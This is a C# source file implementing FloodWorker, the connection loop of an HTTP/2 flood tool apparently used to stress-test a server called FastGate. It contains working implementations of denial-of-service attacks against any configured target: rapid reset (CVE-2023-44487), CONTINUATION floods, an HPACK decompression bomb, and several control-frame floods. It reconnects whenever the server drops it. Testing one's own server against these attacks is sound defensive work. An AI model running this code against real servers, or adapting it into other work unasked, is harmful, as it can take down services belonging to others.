using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

namespace FastGate.Tools.H2Flood;

/// <summary>
/// One connection slot: opens a connection, runs the attack on it until the deadline, and opens
/// a new one whenever the server closes it (as an attacker would). A reader beside the sender
/// counts every frame the server sends and ACKs its SETTINGS.
/// </summary>
internal sealed class FloodWorker(FloodOptions options, FloodStats stats, DateTime deadline)
{
    // Frames per write: large enough that the socket, not the loop, is the limit.
    private const int Batch = 128;
    // RST_STREAM and GOAWAY error codes used by the attacks.
    private const uint CANCEL = 0x8;

    private readonly FrameBuffer _out = new();
    private Socket? _socket;
    private CancellationToken _stop;
    // Set by the reader, acted on by the sender (one writer per socket).
    private volatile bool _ackSettings;
    private volatile bool _goAway;
    private volatile bool _closed;
    // We close the connection ourselves: the reader's error is not the server's close.
    private volatile bool _closing;
    private long _nextPing;
    // One per connection, so a close seen by both the reader and the sender counts once.
    private int _closeCounted;
    // --rate: frames sent on this connection and since when.
    private long _paced;
    private readonly Stopwatch _pace = new();

    public async Task RunAsync()
    {
        using var deadlineCts = new CancellationTokenSource(deadline - DateTime.UtcNow);
        _stop = deadlineCts.Token;
        while (!_stop.IsCancellationRequested)
        {
            _ackSettings = _goAway = _closed = _closing = false;
            _closeCounted = 0;
            _paced = 0;
            _pace.Restart();
            using var socket = new Socket(options.Target.AddressFamily, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
            try
            {
                if (options.From is not null)
                {
                    socket.Bind(new IPEndPoint(options.From, 0));
                }
                using var connectCts = CancellationTokenSource.CreateLinkedTokenSource(_stop);
                connectCts.CancelAfter(TimeSpan.FromSeconds(2));
                await socket.ConnectAsync(options.Target, connectCts.Token);
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                if (_stop.IsCancellationRequested)
                {
                    break;
                }
                stats.ConnectFailed();
                await Delay(50);
                continue;
            }
            stats.ConnectionOpened();
            _socket = socket;
            var opened = Stopwatch.StartNew();
            var reader = options.NoRead ? Task.CompletedTask : ReadAsync(socket, opened);
            try
            {
                await AttackAsync();
                // After a GOAWAY the server closes: wait for it briefly, so the close is counted.
                for (var i = 0; i < 20 && _goAway && !_closed && !_stop.IsCancellationRequested; i++)
                {
                    await Delay(50);
                }
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException or ObjectDisposedException)
            {
                // A write refused because the server closed or reset the connection, or the deadline.
                if (!_stop.IsCancellationRequested && e is SocketException)
                {
                    ServerClosed();
                }
            }
            _closing = true;
            socket.Close();
            await reader;
        }
    }

    // ---------------------------------------------------------------- the attacks

    private async Task AttackAsync()
    {
        var zeroWindow = options.Attack == "zero-window";
        _out.Clear();
        _out.Append(FrameBuffer.Preface);
        // Our windows: large, so responses never wait for us; zero-window gives every stream none.
        _out.Settings((FrameBuffer.SETTINGS_ENABLE_PUSH, 0), (FrameBuffer.SETTINGS_INITIAL_WINDOW_SIZE, zeroWindow ? 0u : 1u << 20));
        if (!zeroWindow)
        {
            _out.WindowUpdate(0, (1 << 30) - 65535);
        }
        await SendAsync(zeroWindow ? 1 : 2, 0);
        switch (options.Attack)
        {
            case "rapid-reset": await RapidResetAsync(); break;
            case "continuation": await ContinuationAsync(); break;
            case "hpack-bomb": await HPackBombAsync(); break;
            case "settings": await RepeatAsync(b => b.Settings((FrameBuffer.SETTINGS_ENABLE_PUSH, 0))); break;
            case "ping": await RepeatAsync(b => b.Ping(++_nextPing)); break;
            case "empty-data": await EmptyDataAsync(); break;
            case "window-update": await RepeatAsync(b => b.WindowUpdate(0, 1)); break;
            case "zero-window": await ZeroWindowAsync(); break;
            default: throw new InvalidOperationException(options.Attack);
        }
    }

    /// <summary>CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) at once, stream after stream.</summary>
    private async Task RapidResetAsync()
    {
        var id = 1;
        while (Going && id > 0)
        {
            for (var i = 0; i < Batch / 2 && id > 0; i++, id += 2)
            {
                Headers(id, post: false, endStream: true);
                _out.RstStream(id, CANCEL);
            }
            await SendAsync(Batch, Batch / 2);
        }
    }

    /// <summary>A HEADERS without END_HEADERS, then CONTINUATION frames of 1 KiB fields that never end the block.</summary>
    private async Task ContinuationAsync()
    {
        var start = _out.Length;
        _out.FrameHeader(0, FrameBuffer.HEADERS, FrameBuffer.END_STREAM, 1);
        _out.RequestPseudoHeaders(false, options.Path, options.Authority);
        _out.PatchLength(start);
        await SendAsync(1, 1);
        var value = new string('c', 1024);
        var n = 0;
        while (Going)
        {
            for (var i = 0; i < Batch / 8; i++)
            {
                start = _out.Length;
                _out.FrameHeader(0, FrameBuffer.CONTINUATION, 0, 1);
                _out.Literal("x-flood-" + n++, value, index: false);
                _out.PatchLength(start);
            }
            await SendAsync(Batch / 8, 0);
        }
    }

    /// <summary>
    /// One 4,000-byte field put into the server's HPACK table (stream 1), then blocks of 16,000
    /// one-byte references to it: each 16 KiB frame decodes to about 64 MB of header list.
    /// </summary>
    private async Task HPackBombAsync()
    {
        var start = _out.Length;
        _out.FrameHeader(0, FrameBuffer.HEADERS, FrameBuffer.END_STREAM | FrameBuffer.END_HEADERS, 1);
        _out.RequestPseudoHeaders(false, options.Path, options.Authority);
        _out.Literal("x-bomb", new string('b', 4000), index: true);
        _out.PatchLength(start);
        await SendAsync(1, 1);
        var id = 3;
        while (Going && id > 0)
        {
            for (var i = 0; i < 4; i++, id += 2)
            {
                start = _out.Length;
                _out.FrameHeader(0, FrameBuffer.HEADERS, FrameBuffer.END_STREAM | FrameBuffer.END_HEADERS, id);
                _out.RequestPseudoHeaders(false, options.Path, options.Authority);
                for (var r = 0; r < 16_000; r++)
                {
                    _out.Indexed(62); // the newest entry of the dynamic table: x-bomb
                }
                _out.PatchLength(start);
            }
            await SendAsync(4, 4);
        }
    }

    /// <summary>A POST stream kept open, then DATA frames with no payload and no END_STREAM.</summary>
    private async Task EmptyDataAsync()
    {
        Headers(1, post: true, endStream: false);
        await SendAsync(1, 1);
        while (Going)
        {
            for (var i = 0; i < Batch; i++)
            {
                _out.FrameHeader(0, FrameBuffer.DATA, 0, 1);
            }
            await SendAsync(Batch, 0);
        }
    }

    /// <summary>
    /// Every stream's window 0 (our SETTINGS): up to 100 GET streams whose responses can never be
    /// sent, held until the deadline or until the server gives up on them.
    /// </summary>
    private async Task ZeroWindowAsync()
    {
        for (var id = 1; id < 200; id += 2)
        {
            Headers(id, post: false, endStream: true);
        }
        await SendAsync(100, 100);
        while (Going)
        {
            await SendAsync(0, 0); // only the SETTINGS ACK the reader asks for
            await Delay(100);
        }
    }

    /// <summary>The same control frame again and again, <see cref="Batch"/> per write.</summary>
    private async Task RepeatAsync(Action<FrameBuffer> frame)
    {
        while (Going)
        {
            for (var i = 0; i < Batch; i++)
            {
                frame(_out);
            }
            await SendAsync(Batch, 0);
        }
    }

    private bool Going => !_stop.IsCancellationRequested && !_goAway && !_closed;

    private void Headers(int id, bool post, bool endStream)
    {
        var start = _out.Length;
        _out.FrameHeader(0, FrameBuffer.HEADERS, (byte)(FrameBuffer.END_HEADERS | (endStream ? FrameBuffer.END_STREAM : 0)), id);
        _out.RequestPseudoHeaders(post, options.Path, options.Authority);
        _out.PatchLength(start);
    }

    /// <summary>Sends what the buffer holds (plus a SETTINGS ACK the reader asked for) and counts it.</summary>
    private async Task SendAsync(int frames, int streams)
    {
        if (_ackSettings)
        {
            _ackSettings = false;
            _out.SettingsAck();
            frames++;
        }
        if (_out.Length == 0)
        {
            return;
        }
        var memory = _out.Memory;
        while (!memory.IsEmpty)
        {
            var n = await _socket!.SendAsync(memory, SocketFlags.None, _stop);
            memory = memory[n..];
        }
        stats.Sent(frames, _out.Length);
        stats.StreamsOpened(streams);
        _out.Clear();
        if (options.Rate > 0)
        {
            // Ahead of N frames per second: wait until the schedule catches up.
            _paced += frames;
            var ahead = _paced * 1000.0 / options.Rate - _pace.Elapsed.TotalMilliseconds;
            if (ahead >= 1)
            {
                await Delay((int)ahead);
            }
        }
    }

    private async Task Delay(int ms)
    {
        try
        {
            await Task.Delay(ms, _stop);
        }
        catch (OperationCanceledException)
        {
        }
    }

    // ---------------------------------------------------------------- what the server answers

    private async Task ReadAsync(Socket socket, Stopwatch opened)
    {
        var buffer = new byte[64 * 1024];
        var filled = 0;
        try
        {
            while (true)
            {
                var n = await socket.ReceiveAsync(buffer.AsMemory(filled), SocketFlags.None, _stop);
                if (n == 0)
                {
                    break;
                }
                filled += n;
                var used = Parse(buffer.AsSpan(0, filled), opened);
                if (used < 0)
                {
                    return; // not HTTP/2 framing: nothing more to learn from this connection
                }
                buffer.AsSpan(used, filled - used).CopyTo(buffer);
                filled -= used;
            }
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException or ObjectDisposedException)
        {
            if (_stop.IsCancellationRequested || _closing)
            {
                return; // our own close
            }
        }
        if (!_stop.IsCancellationRequested && !_closing)
        {
            ServerClosed();
        }
    }

    private void ServerClosed()
    {
        _closed = true;
        if (Interlocked.Exchange(ref _closeCounted, 1) == 0)
        {
            stats.ClosedByServer();
        }
    }

    /// <summary>Handles every whole frame in <paramref name="bytes"/>; returns the bytes used, -1 when a frame cannot fit.</summary>
    private int Parse(ReadOnlySpan<byte> bytes, Stopwatch opened)
    {
        var used = 0;
        var frames = 0;
        while (bytes.Length - used >= 9)
        {
            var f = bytes[used..];
            var length = (f[0] << 16) | (f[1] << 8) | f[2];
            if (length > 64 * 1024 - 9)
            {
                return -1; // larger than any max_frame_size we accept (16 KiB)
            }
            if (f.Length < 9 + length)
            {
                break;
            }
            var type = f[3];
            var flags = f[4];
            var payload = f.Slice(9, length);
            switch (type)
            {
                case FrameBuffer.SETTINGS when (flags & FrameBuffer.ACK) == 0:
                    _ackSettings = true;
                    break;
                case FrameBuffer.SETTINGS:
                    stats.SettingsAck();
                    break;
                case FrameBuffer.PING when (flags & FrameBuffer.ACK) != 0:
                    stats.PingAck();
                    break;
                case FrameBuffer.GOAWAY when length >= 8:
                    _goAway = true;
                    stats.GoAway(BinaryPrimitives.ReadUInt32BigEndian(payload[4..]), opened.Elapsed.TotalSeconds);
                    break;
                case FrameBuffer.RST_STREAM when length == 4:
                    stats.Reset(BinaryPrimitives.ReadUInt32BigEndian(payload));
                    break;
                case FrameBuffer.HEADERS:
                    stats.Status(ResponseStatus.Of(payload, flags));
                    break;
            }
            used += 9 + length;
            frames++;
        }
        stats.Received(frames, used);
        return used;
    }
}
